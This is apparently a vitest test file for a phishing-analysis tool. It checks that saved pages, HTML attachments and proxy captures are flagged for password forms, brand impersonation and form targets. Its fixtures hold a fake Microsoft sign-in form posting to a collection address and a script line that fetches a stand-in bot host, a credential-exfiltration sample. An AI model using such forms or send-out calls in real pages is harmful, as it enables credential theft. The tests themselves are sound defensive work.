import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import { Workbench } from '../../support/workbench.ts'

const FORM =
  '<title>Sign in to Microsoft</title><form action="https://collect.test/p"><input type="password"></form>'

/** A mail with an HTML body; `location` makes it a page saved by a browser. */
const aMail = (id: string, html: string, location?: string): string =>
  [
    'From: Sender <sender@mail.test>',
    'To: amy@corp.test',
    `Message-ID: <${id}@mail.test>`,
    'Date: Mon, 02 Mar 2026 10:00:00 +0000',
    'Subject: Hello',
    ...(location === undefined ? [] : [`Snapshot-Content-Location: ${location}`]),
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><body>${html}</body></html>`,
    '',
  ].join('\r\n')

async function analysisOf(mail: string, name: string, url: string) {
  const workbench = await Workbench.open()
  onTestFinished(() => workbench.close())
  await workbench.import(workbench.file(name, mail))
  const { rows } = await workbench.client.call('url.list', { text: url })
  expect(rows.map((one) => one.url)).toContain(url)
  const row = rows.find((one) => one.url === url)
  return workbench.client.call('url.analysis', { id: row?.id ?? '0' })
}
const idsOf = (analysis: { signs: { id: string }[] }): string[] => analysis.signs.map(({ id }) => id)

describe('W5: pages that are in evidence', () => {
  it('W5: a page saved by a browser is looked at for the address it was saved from', async () => {
    const page = aMail('p', `${FORM}<a href="https://evil.test/in">here</a>`, 'https://evil.test/in')
    const analysis = await analysisOf(page, 'page.mht', 'https://evil.test/in')
    expect(idsOf(analysis)).toEqual(
      expect.arrayContaining(['page-password-form', 'page-form-target', 'page-brand']),
    )
    expect(analysis).toMatchObject({ level: 'dangerous', category: 'credential-phishing', recordedAt: null })
  })

  it('W5 a mail that asks for a password speaks against the address its form sends to', async () => {
    const mail = aMail('m', `${FORM}<a href="https://other.test/">other</a>`)
    expect(idsOf(await analysisOf(mail, 'form.eml', 'https://collect.test/p'))).toContain('page-form-target')
  })

  it('W5 not: a mail with a form speaks against no other address in it, one without a form against none', async () => {
    const mail = aMail('m', `${FORM}<a href="https://other.test/">other</a>`)
    expect(idsOf(await analysisOf(mail, 'form.eml', 'https://other.test/'))).toEqual([])
    const plain = aMail('n', '<p>Microsoft</p><a href="https://collect.test/p">read</a>')
    expect(idsOf(await analysisOf(plain, 'plain.eml', 'https://collect.test/p'))).toEqual([])
  })

  it('W5 W6 a page that came as an attachment speaks against the address it sends passwords to', async () => {
    const page = `<html><head>${FORM}</head><script>fetch('https://api.bot.test/send?x=1')</script></html>`
    const mail = [
      'From: Sender <sender@mail.test>',
      'To: amy@corp.test',
      'Message-ID: <a@mail.test>',
      'Date: Mon, 02 Mar 2026 10:00:00 +0000',
      'Subject: Voice message',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Listen: <a href="https://other.test/">here</a></p>',
      '--b',
      'Content-Type: application/octet-stream; name="voice.htm"',
      'Content-Disposition: attachment; filename="voice.htm"',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(page).toString('base64'),
      '--b--',
      '',
    ].join('\r\n')
    const analysis = await analysisOf(mail, 'voice.eml', 'https://collect.test/p')
    expect(idsOf(analysis)).toEqual(expect.arrayContaining(['page-brand', 'page-password-form']))
    expect(analysis.category).toBe('credential-phishing')
    expect(idsOf(await analysisOf(mail, 'voice.eml', 'https://other.test/'))).toEqual([])
  })

  it('W5 a page that a proxy captured is looked at for the address that was asked for, plain or encoded', async () => {
    const capture = readFileSync(join(import.meta.dirname, '../../fixtures/har/good.har'), 'utf8')
    for (const url of ['https://evil.test/in', 'https://evil.test/in64', 'https://evil.test/other']) {
      const workbench = await Workbench.open()
      onTestFinished(() => workbench.close())
      const mail = aMail('h', `<a href="${url}">here</a>`)
      await workbench.import(workbench.file('mail.eml', mail), workbench.file('capture.har', capture))
      const row = (await workbench.client.call('url.list', { text: url })).rows.find((one) => one.url === url)
      const ids = idsOf(await workbench.client.call('url.analysis', { id: row?.id ?? '0' }))
      expect(ids.includes('page-logo') && ids.includes('page-form-target'), url).toBe(!url.endsWith('other'))
    }
  })
})
